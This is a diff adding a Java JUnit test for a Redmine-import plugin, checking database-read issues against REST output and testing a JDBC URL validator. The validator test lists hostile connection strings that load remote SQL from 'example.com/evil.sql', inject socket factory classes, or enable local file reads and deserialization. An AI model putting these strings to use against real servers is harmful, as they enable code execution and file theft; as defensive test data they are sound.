@@ -0,0 +1,127 @@
+package com.devcharly.onedev.plugin.imports.redmine;
+
+import static org.junit.Assert.assertTrue;
+import static org.junit.Assert.fail;
+
+import java.io.IOException;
+import java.io.InputStream;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.util.Arrays;
+import java.util.Comparator;
+import java.util.List;
+
+import org.junit.After;
+import org.junit.Before;
+import org.junit.Test;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+
+import io.onedev.commons.utils.ExplicitException;
+
+/**
+ * Reads an issue from an embedded database holding the Redmine schema, and compares it
+ * with the REST response Redmine gives for the same issue to a user not allowed to view
+ * private notes.
+ */
+public class RedmineDatabaseTest {
+
+	private static final String DATABASE_URL = "jdbc:h2:mem:redmine;DB_CLOSE_DELAY=-1;NON_KEYWORDS=VALUE";
+
+	// supplied by REST only, and not read by the importer
+	private static final List<String> REST_ONLY_FIELDS = Arrays.asList("is_private", "total_estimated_hours",
+			"spent_hours", "total_spent_hours", "closed_on");
+
+	// numbers compare by value, as JDBC reads ids as long while JSON parses them as int
+	private static final Comparator<JsonNode> VALUE_COMPARATOR = (node1, node2) -> {
+		if (node1.isNumber() && node2.isNumber())
+			return node1.decimalValue().compareTo(node2.decimalValue());
+		return node1.equals(node2) ? 0 : 1;
+	};
+
+	private Connection connection;
+
+	private RedmineDatabase database;
+
+	private ImportServer server;
+
+	@Before
+	public void setup() throws SQLException {
+		connection = DriverManager.getConnection(DATABASE_URL);
+		try (Statement statement = connection.createStatement()) {
+			statement.execute("RUNSCRIPT FROM 'classpath:/redmine-db/issue.sql'");
+		}
+		server = new ImportServer();
+		server.setApiUrl("http://localhost/redmine");
+		server.setReadDatabase(true);
+		server.setDatabaseUrl("jdbc:postgresql://localhost/redmine");
+		database = new RedmineDatabase(server) {
+
+			@Override
+			Connection openConnection() throws SQLException {
+				return DriverManager.getConnection(DATABASE_URL);
+			}
+
+		};
+	}
+
+	@After
+	public void teardown() throws SQLException {
+		database.closeConnection();
+		try (Statement statement = connection.createStatement()) {
+			statement.execute("DROP ALL OBJECTS");
+		}
+		connection.close();
+	}
+
+	@Test
+	public void unsafeUrlsRejected() {
+		assertRejected("jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://example.com/evil.sql'");
+		assertRejected("jdbc:postgresql://localhost/redmine?socketFactory=org.example.Evil");
+		assertRejected("jdbc:postgresql://localhost/redmine?%73ocketFactory=org.example.Evil");
+		assertRejected("jdbc:mysql://localhost/redmine?allowLoadLocalInfile=true");
+		assertRejected("jdbc:mysql://(host=localhost,autoDeserialize=true)/redmine");
+		assertRejected("jdbc:sqlserver://localhost;databaseName=redmine;socketFactoryClass=org.example.Evil");
+		RedmineDatabase.checkUrl("jdbc:postgresql://localhost:5432/redmine?ssl=true&sslmode=require");
+		RedmineDatabase.checkUrl("jdbc:mysql://localhost:3306/redmine?serverTimezone=UTC");
+	}
+
+	@Test
+	public void issueDetailsMatchRest() throws IOException {
+		JsonNode actual = database.newReader().get(
+				server.getApiEndpoint("/issues/1.json?include=relations,watchers,attachments,journals"));
+
+		ObjectNode expected = (ObjectNode) read("/redmine-rest/issue-1.json");
+		ObjectNode expectedIssue = (ObjectNode) expected.get("issue");
+		expectedIssue.remove(REST_ONLY_FIELDS);
+		((ObjectNode) expectedIssue.get("project")).remove("name");
+
+		// kept by the database reader to find copies of attachments without downloading them
+		for (JsonNode attachmentNode: actual.get("issue").get("attachments"))
+			((ObjectNode) attachmentNode).remove("digest");
+
+		assertTrue("Expected:\n" + expected + "\nActual:\n" + actual, expected.equals(VALUE_COMPARATOR, actual));
+	}
+
+	private static void assertRejected(String url) {
+		try {
+			RedmineDatabase.checkUrl(url);
+			fail("Accepted " + url);
+		} catch (ExplicitException e) {
+			// expected
+		}
+	}
+
+	private static JsonNode read(String name) throws IOException {
+		try (InputStream is = RedmineDatabaseTest.class.getResourceAsStream(name)) {
+			if (is == null)
+				throw new IOException("Resource not found: " + name);
+			return new ObjectMapper().readTree(is);
+		}
+	}
+
+}